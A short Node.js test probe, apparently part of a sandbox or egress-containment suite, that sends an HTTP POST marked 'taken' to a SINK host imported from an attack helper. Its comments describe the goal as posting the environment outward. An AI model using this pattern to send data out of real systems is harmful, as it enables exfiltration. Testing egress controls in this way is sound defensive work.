// class: network
// rule: outbound_connectivity
// success: Node posts the environment
// proof: sink
'use strict';
const http = require('http');
const { attempt, SINK } = require('./attack.js');
attempt(() => new Promise((fine, bad) => {
    const out = http.request({ ...SINK, method: 'POST' }, (answer) => { answer.resume(); fine(answer.statusCode === 200); });
    out.on('error', bad);
    out.end('taken');
}));
